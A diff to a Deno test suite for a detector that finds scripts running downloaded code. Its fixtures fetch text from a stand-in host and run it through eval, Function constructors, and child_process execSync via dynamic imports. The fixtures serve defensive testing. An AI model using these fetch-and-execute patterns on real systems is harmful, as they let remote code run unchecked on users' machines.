@@ -1243,7 +1243,7 @@ Deno.test("downloaded code handed with the function that runs it to a call that 
   assertRunsOnlyIn(py, "py", handed, benign);
 });
 
-Deno.test("downloaded code run through Function's constructor, call or apply, or a destructured dynamic import is run", () => {
+Deno.test("downloaded code run through Function's constructor, call or apply, or a dynamic import's module is run", () => {
   const js = 'const code = await (await fetch("https://get.notes-cloud.net/a")).text();\n';
   const ways = [
     "const AsyncFunction = (async () => {}).constructor;\nawait new AsyncFunction(code)();\n",
@@ -1251,14 +1251,20 @@ Deno.test("downloaded code run through Function's constructor, call or apply, or
     "Function.prototype.constructor(code)();\n",
     "eval.call(null, code);\n",
     'const { execSync } = await import("node:child_process");\nexecSync(code);\n',
+    'import("node:child_process").then((cp) => cp.execSync(code));\n',
+    'import("child_process").then(({ execSync }) => execSync(code));\n',
   ];
   // A class's own constructor and a function's call() with the download run nothing.
   const benign = [
     "class Note { constructor(t) { this.t = t; } }\nconsole.log(new Note(code).t);\n",
     "function show(t) { console.log(t); }\nshow.call(null, code);\n",
     'const { readFileSync } = await import("node:fs");\nconsole.log(readFileSync("a.txt", "utf8"), code);\n',
+    'import("node:fs").then((fs) => fs.writeFileSync("out.txt", code));\n',
   ];
   assertRunsOnlyIn(js, "mjs", ways, benign);
+  // A callback's block body is statements of its own: the module's name reaches them too.
+  const block = 'import("node:child_process").then((cp) => {\n  cp.execSync(code);\n});\n';
+  assert.deepEqual(downloadRuns("scripts/m.mjs", js + block), [3]);
 });
 
 Deno.test("a callback whose names each read the one before is read once per name, not once per path", () => {
